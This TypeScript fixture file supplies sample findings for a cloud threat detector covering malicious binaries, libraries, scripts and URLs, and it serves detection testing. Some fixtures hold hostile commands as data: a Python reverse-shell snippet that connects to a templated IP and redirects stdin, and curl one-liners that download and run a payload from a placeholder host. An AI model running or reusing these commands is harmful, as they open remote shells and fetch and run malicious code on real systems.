import type { DetectorFixtures } from './detector-fixtures.ts';
import { file, parent, program, script, virusTotalLink } from './detector-fixtures-parts.ts';

const added = '/tmp/.cache/upd';
const library = '/tmp/.cache/libpam_x.so';

/** A program, library, script or address that is known, or judged, to be bad. */
export const maliciousFileFixtures: DetectorFixtures = {
  CLOUD_RUN_ADDED_MALICIOUS_BINARY_EXECUTED: {
    category: 'Execution: Added Malicious Binary Executed',
    severity: 'CRITICAL',
    description: 'A binary that is known as malicious, and was not part of the image, was executed.',
    playbook: 'malicious-binary',
    recommends: 'end',
    says: (facts) => ({
      processes: [program(facts, [added, '--daemon'])],
      files: [file(facts, added)],
      sourceProperties: virusTotalLink(facts.hash(added)),
    }),
  },
  CLOUD_RUN_MODIFIED_MALICIOUS_BINARY_EXECUTED: {
    category: 'Execution: Modified Malicious Binary Executed',
    severity: 'CRITICAL',
    description: 'A binary of the image was changed at run time into one that is known as malicious.',
    playbook: 'malicious-binary',
    recommends: 'end',
    says: (facts) => ({
      processes: [program(facts, ['/usr/sbin/cron', '-f'])],
      mitreAttack: {
        primaryTactic: 'COMMAND_AND_CONTROL',
        primaryTechniques: ['INGRESS_TOOL_TRANSFER'],
        additionalTactics: ['EXECUTION'],
        additionalTechniques: ['NATIVE_API'],
      },
    }),
  },
  CLOUD_RUN_BUILT_IN_MALICIOUS_BINARY_EXECUTED: {
    category: 'Execution: Built in Malicious Binary Executed',
    severity: 'CRITICAL',
    description: 'A binary that is known as malicious, and came with the image, was executed.',
    playbook: 'built-in-malicious-binary',
    recommends: 'end',
    image: 'suspect',
    says: (facts) => ({ processes: [program(facts, ['/usr/local/bin/healthcheck', '--interval', '5'])] }),
  },
  CLOUD_RUN_ADDED_MALICIOUS_LIBRARY_LOADED: {
    category: 'Execution: Added Malicious Library Loaded',
    severity: 'CRITICAL',
    description: 'A library that is known as malicious, and was not part of the image, was loaded.',
    playbook: 'malicious-binary',
    recommends: 'end',
    says: (facts) => ({
      processes: [program(facts, ['/usr/bin/python3', 'app.py'], { libraries: [file(facts, library)] })],
    }),
  },
  CLOUD_RUN_MODIFIED_MALICIOUS_LIBRARY_LOADED: {
    category: 'Execution: Modified Malicious Library Loaded',
    severity: 'CRITICAL',
    description: 'A library of the image was changed at run time into one that is known as malicious.',
    playbook: 'malicious-binary',
    recommends: 'end',
    says: (facts) => ({
      processes: [
        program(facts, ['/usr/sbin/nginx'], {
          // Of the beginning only: nothing to ask anybody about.
          libraries: [
            { ...file(facts, '/usr/lib/libssl.so.3', 6_291_456), hashedSize: '4194304', partiallyHashed: true },
          ],
        }),
      ],
    }),
  },
  CLOUD_RUN_SUSPICIOUS_OPENSSL_SHARED_OBJECT_LOADED: {
    category: 'Execution: Suspicious OpenSSL Shared Object Loaded',
    severity: 'CRITICAL',
    description: 'openssl loaded a shared object of its own as an engine.',
    playbook: 'malicious-binary',
    recommends: 'end',
    says: (facts) => ({
      processes: [
        program(facts, ['/usr/bin/openssl', 'engine', '-t', './engine.so'], {
          libraries: [file(facts, '/tmp/engine.so')],
        }),
      ],
    }),
  },
  CLOUD_RUN_FILELESS_EXECUTION_DETECTION_MEMFD: {
    category: 'Execution: Fileless Execution in /memfd:',
    severity: 'HIGH',
    description: 'A process was executed from a file that is in memory only.',
    playbook: 'malicious-binary',
    recommends: 'end',
    says: (facts) => ({ processes: [program(facts, ['/memfd:kworker (deleted)', '-d'])] }),
  },
  CLOUD_RUN_MALICIOUS_PYTHON_EXECUTED: {
    category: 'Execution: Malicious Python executed',
    severity: 'CRITICAL',
    description: 'A model judged Python code that ran as malicious.',
    playbook: 'malicious-script',
    recommends: 'end',
    says: (facts) => ({
      processes: [
        program(facts, ['/usr/bin/python3', '/tmp/get.py'], {
          script: script(
            '/tmp/get.py',
            `import os, socket\ns = socket.create_connection(("${facts.ip}", ${facts.port}))\nos.dup2(s.fileno(), 0)\n`,
          ),
        }),
      ],
      mitreAttack: { primaryTactic: 'COMMAND_AND_CONTROL', primaryTechniques: ['INGRESS_TOOL_TRANSFER'] },
    }),
  },
  CLOUD_RUN_MALICIOUS_SCRIPT_EXECUTED: {
    category: 'Malicious Script Executed',
    severity: 'CRITICAL',
    description: 'A model judged a shell script that ran as malicious.',
    playbook: 'malicious-script',
    recommends: 'end',
    says: (facts) => ({
      processes: [
        parent(facts, ['/usr/local/bin/node', 'server.js']),
        program(facts, ['/bin/bash', '/tmp/.cache/up.sh'], {
          script: script(
            '/tmp/.cache/up.sh',
            `curl -s http://${facts.host}/upd -o ${added} && chmod +x ${added} && ${added}\n`,
          ),
          argumentsTruncated: true,
        }),
      ],
    }),
  },
  CLOUD_RUN_MALICIOUS_URL_OBSERVED: {
    category: 'Malicious URL Observed',
    severity: 'MEDIUM',
    description: 'A URL on the list of unsafe addresses stood in the arguments of a process.',
    playbook: 'malicious-url',
    recommends: 'end',
    says: (facts) => ({
      processes: [program(facts, ['/usr/bin/curl', '-fsSL', `http://${facts.host}/drop?id=7`])],
      indicator: { uris: [`http://${facts.host}/drop?id=7`], domains: [facts.host] },
      mitreAttack: { primaryTactic: 'COMMAND_AND_CONTROL', primaryTechniques: ['INGRESS_TOOL_TRANSFER'] },
    }),
  },
};
